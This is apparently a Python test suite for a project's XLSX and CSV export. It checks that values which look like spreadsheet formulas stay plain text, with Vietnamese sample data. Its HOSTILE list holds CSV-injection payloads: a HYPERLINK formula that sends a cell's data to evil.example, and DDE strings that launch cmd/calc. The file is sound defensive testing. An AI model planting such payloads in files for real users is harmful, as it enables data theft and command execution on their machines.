"""Every XLSX and CSV UnionHub writes holds text as text: a value that starts like a formula
keeps its characters and never becomes a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from unionhub.core import csvfile
from unionhub.core.xlsx import FORMULA_STARTS, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&F2, "Bấm vào đây")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(data: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def written(rows) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, headers=["=Tiêu đề", "Địa chỉ"], rows=rows)
    return out.getvalue()


def test_values_that_start_like_a_formula_are_written_as_text():
    data = written([[value, "Xóm 2"] for value in HOSTILE])
    assert b"<f>" not in sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # A carriage return may read back as a line feed (XML's end-of-line handling), or not (lxml,
    # which openpyxl reads through when it is installed).
    assert [cell.value.replace("\r", "\n") for cell in cells] == [
        v.replace("\r", "\n") for v in HOSTILE
    ]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert sheet["A1"].value == "=Tiêu đề" and sheet["A1"].data_type == "s"


@given(st.lists(st.text(min_size=1, max_size=30), max_size=8))
def test_no_text_ever_becomes_a_formula_nor_stops_the_export(values):
    data = written([[value, value] for value in values])
    assert not re.search(rb"<f[ >]", sheet_xml(data))


def test_csv_fields_that_start_like_a_formula_get_an_apostrophe():
    text = csvfile.csv_text(headers=["Họ và tên", "Địa chỉ"], rows=[["Lê An", v] for v in HOSTILE])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert [row[1] for row in rows[1:]] == [f"'{value}" for value in HOSTILE]
    assert not any(field.startswith(FORMULA_STARTS) for row in rows for field in row)


def test_control_characters_in_headers_and_values_do_not_stop_the_workbook():
    out = io.BytesIO()
    write_xlsx(out, headers=["Ghi chú\x07", "Địa\x1b chỉ"], rows=[["Xóm\x08 2", "Lê An"]])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert [cell.value for cell in sheet[1]] == ["Ghi chú", "Địa chỉ"]
    assert [cell.value for cell in sheet[2]] == ["Xóm 2", "Lê An"]


@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5))
def test_no_header_stops_the_workbook(headers):
    out = io.BytesIO()
    assert write_xlsx(out, headers=headers, rows=[headers]) == 1
